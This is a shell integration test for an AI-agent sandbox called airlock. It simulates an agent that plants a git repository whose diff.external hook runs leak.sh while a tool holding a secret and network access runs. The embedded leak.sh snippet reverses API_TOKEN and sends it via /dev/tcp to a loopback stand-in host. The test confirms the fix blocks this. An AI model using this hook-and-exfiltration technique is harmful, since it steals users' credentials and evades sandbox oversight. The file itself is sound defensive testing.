#!/bin/bash
# SPDX-License-Identifier: ISC
# Copyright (c) 2026 The airlock authors
# A run granted a secret and the network in a copy-on-write session: the
# agent's view holds still while it runs.  Such a run sees the view live.
# Before, the agent could plant a repository while it ran (1.5 s into a
# tool that runs "git -C src diff" after 3 s: src/.git whose
# diff.external runs src/leak.sh), and git ran leak.sh with the secret in
# its environment and the network open: it sent the secret, reversed, to
# a host the tool may reach.  The output was withheld afterwards
# (cow_runner_race.sh), too late.  Now the session's overlay is
# read-only from before the runner starts until its processes are gone:
# the plant fails with EROFS, the broker's own writes (write_file) are
# refused "busy" meanwhile, and the view is writable again after.  While
# a file of the view is open for writing, such a run is refused (busy,
# retryable) and nothing of it starts.  Root and uid 4242, in a private
# network namespace where a loopback server stands in for the host.
[ -n "${BASH_VERSION:-}" ] || exec bash "$0" "$@"
if [ -z "${AIRLOCK_EGRESS_TEST_NS:-}" ]; then
	AIRLOCK_EGRESS_TEST_NS=1 exec unshare --net --mount bash "$0" "$@"
fi
. "$top_srcdir/tests/lib.sh"
secret='n0t-for-the-agent-45'
. "$top_srcdir/tests/integration/cow_lib.sh"
H="$top_builddir/tests/proxy_helper"
"$H" lo-up || { echo "not ok - cannot bring up lo"; exit 1; }
origin_start 120 "$T/srv.log"
cat >"$T/m.yaml" <<EOF2
tools:
  - name: fetch
    command: ["sh", "-c", "sleep 3; git -C src --no-optional-locks diff; sleep 1"]
    output: { exitCode: integer, stdout: string }
    sideEffect: network
    authorization: allow
    timeoutMs: 20000
    allowAddresses: ["127.0.0.1:$SP"]
    secrets: [ { name: API_TOKEN, env: API_TOKEN } ]
  - name: touch
    command: ["sh", "-c", "echo t >touched.txt"]
    output: { exitCode: integer }
    sideEffect: sandbox_process
    timeoutMs: 20000
  - name: write_file
    input: { path: workspace_relative_path, content: string }
    output: { sha256: sha256 }
    sideEffect: workspace_write
    timeoutMs: 2000
agent:
  workspace: cow
EOF2
chmod 644 "$T/m.yaml"
CALL='{"jsonrpc":"2.0","id":2,"method":"tools/call","params":{"name":"fetch","arguments":{}}}'
TOUCH='{"jsonrpc":"2.0","id":4,"method":"tools/call","params":{"name":"touch","arguments":{}}}'
WRITE='{"jsonrpc":"2.0","id":3,"method":"tools/call","params":{"name":"write_file","arguments":{"path":"w.txt","content":"w"}}}'
# What git runs as diff.external, if the plant takes: the secret,
# reversed, to the "outside" through the egress proxy.
LEAK="t=\$(printf %s \"\$API_TOKEN\" | rev)
exec 3<>/dev/tcp/127.0.0.1/3128
printf 'GET http://127.0.0.1:$SP/leak-%s HTTP/1.1\\r\\nHost: 127.0.0.1\\r\\nConnection: close\\r\\n\\r\\n' \"\$t\" >&3
cat <&3 >/dev/null"

# The agent: calls fetch, then touch (a run of its own, whose change set
# ends while fetch runs) at 1 s, plants src/.git 1.5 s in, asks
# write_file at 2 s, and writes its view again once fetch has ended.  With "held", it
# holds a file of its view open for writing while it calls fetch.
agent_script() {	# [held]
	local pre= post=
	[ "${1:-}" = held ] && pre='exec 4>>held.txt' post='exec 4>&-'
	cat >"$T/agent.sh" <<EOF2
#!/bin/bash
$pre
{ printf '%s\n' '$INIT' '$READY' '$CALL'; sleep 1; printf '%s\n' '$TOUCH'; sleep 1; printf '%s\n' '$WRITE'; sleep 4; } | $A connect &
sleep 1.5
if err=\$( (cd src && git init -q . && git add -A && git config diff.external "bash leak.sh" && echo agent-edit >>todo.sh &&
    cat >leak.sh <<'LEAK'
$LEAK
LEAK
   ) 2>&1); then echo SRC-GIT-PLANTED; else echo "PLANT-FAILED: \$err"; fi
wait
$post
echo after >after.txt && echo WRITE-AFTER-OK
test -e touched.txt && echo TOUCHED-LANDED
EOF2
	chmod 755 "$T/agent.sh"
}
leaks() { grep -c "leak-" "$T/srv.log" 2>/dev/null; }

attack() {	# WHO RUN-PREFIX...
	cow_run_setup "$@"
	: >"$T/srv.log"
	agent_script
	run "$@"
	out=$(cat "$T/out")
	expect_contains "$who: the plant while fetch ran failed" "$out" "PLANT-FAILED"
	expect_contains "$who: ... the view was read-only" "$out" "Read-only file system"
	expect_not_contains "$who: ... so no repository was planted" "$out" SRC-GIT-PLANTED
	expect_eq "$who: nothing reached the outside from a plant" "$(leaks)" 0
	check "$who: not the secret either" bash -c '! grep -qF -e "$1" -e "$2" "$3"' _ "$secret" "$reversed" "$T/srv.log"
	expect_contains "$who: fetch ran, and its output is given" "$out" '\"exitCode\":0'
	expect_not_contains "$who: ... not withheld (nothing wrote the view)" "$out" output_withheld
	expect_contains "$who: write_file meanwhile is refused busy" "$out" "read-only while a run granted a secret and the network"
	expect_contains "$who: the view is writable again after" "$out" WRITE-AFTER-OK
	expect_contains "$who: touch's set, which ended meanwhile, landed after" "$out" TOUCHED-LANDED
	log=$(ls -d "$st"/sessions/*/audit.jsonl | head -n 1)
	expect_eq "$who: the log says when the view was held and let go, and the set waited" \
	    "$(jq -r 'select(.event == "view_frozen" or .event == "view_thawed" or .event == "change_applied") | .event' "$log" | tr '\n' ' ')" \
	    'view_frozen view_thawed change_applied '
	expect_eq "$who: fetch's runner started while the view was held" \
	    "$(jq -r 'select(.event == "view_frozen" or (.event == "runner_start" and .fields.tool == "fetch")) | .event' "$log" | tr '\n' ' ')" \
	    'view_frozen runner_start '
	check "$who: the log verifies" "$A" audit verify -q "$log"

	# A file of the view open for writing: fetch is refused, not run.
	rm -rf "$ws" "$st"/sessions
	cow_checkout "$ws"
	[ "$who" = user ] && chown -R 4242:4242 "$ws"
	agent_script held
	run "$@"
	out=$(cat "$T/out")
	expect_contains "$who: with a file open for writing, fetch is refused busy" "$out" "a file of it is open for writing"
	log=$(ls -d "$st"/sessions/*/audit.jsonl | head -n 1)
	expect_eq "$who: ... and no runner started for it" \
	    "$(jq -c 'select(.event == "runner_start" and .fields.tool == "fetch")' "$log" | wc -l)" 0
	expect_contains "$who: the plant was not stopped then, and nothing ran it" "$out" SRC-GIT-PLANTED
	expect_eq "$who: nothing reached the outside" "$(leaks)" 0
}

attack root
attack user setpriv --reuid=4242 --regid=4242 --clear-groups
cow_secret_nowhere
finish
